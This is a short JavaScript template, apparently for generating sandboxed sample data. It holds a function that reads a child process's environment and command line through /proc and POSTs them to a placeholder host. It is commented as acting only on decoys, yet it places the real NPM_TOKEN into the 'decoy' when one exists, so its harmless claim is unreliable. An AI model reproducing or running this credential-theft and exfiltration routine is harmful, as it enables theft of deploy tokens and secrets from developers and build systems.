// Harmless replica: acts only on decoys and on addresses inside the sandbox's own network namespace; refuses to run elsewhere.
async function {{act}}() {
  if (process.env.SALLYPORT_CORPUS !== '1' || require('os').hostname() !== 'localhost') return;
  const { spawn } = require('child_process');
  const fs = require('fs');
  // Its own child, which holds a decoy and nothing else, stands in for the process that is robbed.
  const child = spawn('sleep', ['2'], { env: { PATH: process.env.PATH, DEPLOY_TOKEN: process.env.NPM_TOKEN || '{{token}}' }, stdio: 'ignore' });
  child.on('error', () => {});
  await new Promise((done) => setTimeout(done, 150));
  let text = '';
  try { text = fs.readFileSync(`/proc/${child.pid}/environ`, 'utf8') + fs.readFileSync(`/proc/${child.pid}/cmdline`, 'utf8'); } catch (error) { /* not allowed */ }
  child.kill();
  try { await fetch('http://{{host}}/{{path}}', { method: 'POST', body: text.replaceAll('\0', '\n'), signal: AbortSignal.timeout(1000) }); } catch (error) { /* nobody there */ }
}
